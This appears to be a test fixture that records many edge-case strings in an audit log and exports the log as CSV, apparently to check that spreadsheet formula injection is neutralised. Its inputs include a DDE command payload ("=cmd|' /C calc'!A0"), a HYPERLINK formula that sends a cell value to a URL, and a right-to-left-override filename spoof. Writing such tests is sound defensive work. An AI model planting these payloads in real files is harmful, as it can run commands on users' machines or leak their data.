/** An export as the server gives it, of a log in which people wrote what a spreadsheet could misread. */
import { createDataFolder, createFolderLog } from '@attestry/log/folder';
import { LOCAL } from '../../packages/server/dist/accounts/principal.js';
import { createApp } from '../../packages/server/dist/http/app.js';
import { openService } from '../../packages/server/dist/service/service.js';

const TEXTS = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com/?"&A1,"click")',
  '+49 30 1234',
  '-5',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1',
  '\u202e=1',
  '＝1+1',
  "'text",
  "''",
  'a;=1;b',
  'a,=1,"=2"',
  '"',
  '""',
  '","',
  'two\r\nlines',
  'two\rlines',
  'two\nlines\n',
  '\n\n',
  'a\tb',
  'nul \0 bell \x07 escape \x1b delete \x7f',
  'lone \ud800 surrogate \udc00',
  '\u202egnp.exe',
  'é漢字😀 e\u0301',
  '  two  blanks  ',
  ' ',
  '',
  '00123',
  '5',
  '1E10',
  '1.50',
  '1,5',
  '0.30000000000000004',
  '12345678901234567890',
  '1/2',
  '2026-05-01',
  '12:30',
  '50%',
  'TRUE',
  'false',
  'SEPT2',
  '1 May',
  'null',
  '<b>&amp;</b>',
  'https://example.com/',
  'x'.repeat(32_767),
  'x'.repeat(32_768),
  '😀'.repeat(20_000),
  'line\n'.repeat(300),
];

/** Values that are JSON scalars in before and after. */
const VALUES = [5, -5, 0, 1.5, 1e21, 0.1 + 0.2, true, false, null, [], {}, ['=1'], { '=1': '=2' }];

/** The bytes of the CSV of a new log in a folder. */
export async function exportHostileCells(dir) {
  const log = await createFolderLog(createDataFolder(dir, 'interop.example'));
  for (const text of TEXTS) {
    await log.record('client.updated', {
      actor: { type: 'user', id: text, name: text, email: text },
      target: { id: text },
      request: { ip: '203.0.113.7', userAgent: text },
      before: text,
      after: { [text]: text },
      reason: text,
      details: { text },
    });
    await log.record('client.updated', { actor: { id: text }, target: { type: text, name: text } });
  }
  for (const value of VALUES)
    await log.record('client.updated', { before: value, after: value, details: value });
  await log.close();
  const service = await openService({ dir, version: '0.0.0', onError: console.error });
  try {
    const request = new Request('http://localhost/api/v1/logs/main/exports?format=csv');
    const response = await createApp(service).fetch(request, { principal: LOCAL });
    if (response.status !== 200) throw new Error(await response.text());
    return new Uint8Array(await response.arrayBuffer());
  } finally {
    await service.close();
  }
}
